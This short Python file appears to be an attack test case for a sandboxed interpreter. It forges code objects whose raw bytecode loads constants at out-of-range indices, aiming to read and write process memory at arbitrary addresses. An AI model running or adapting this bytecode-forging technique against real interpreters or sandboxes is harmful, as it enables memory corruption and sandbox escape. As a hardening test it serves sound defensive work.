# Forges an object with a length of its choice, to read and write the instance's memory at any address.
#
# category = "interpreter"
# ending = ["crashed", "raised", "value"]
# limits = {fuel = 1_000_000_000}
def attack():
    constants = ()
    code = (lambda: 0).__code__
    fake = bytearray(b"\xff" * 4096)
    for distance in range(0, 60_000, 37):
        forged = code.replace(
            co_consts=constants, co_code=bytes([100, distance & 255, 144, distance >> 8, 83, 0, 36, 0])
        )
        try:
            exec(forged, {"fake": fake})
        except Exception:
            continue
    return "alive"
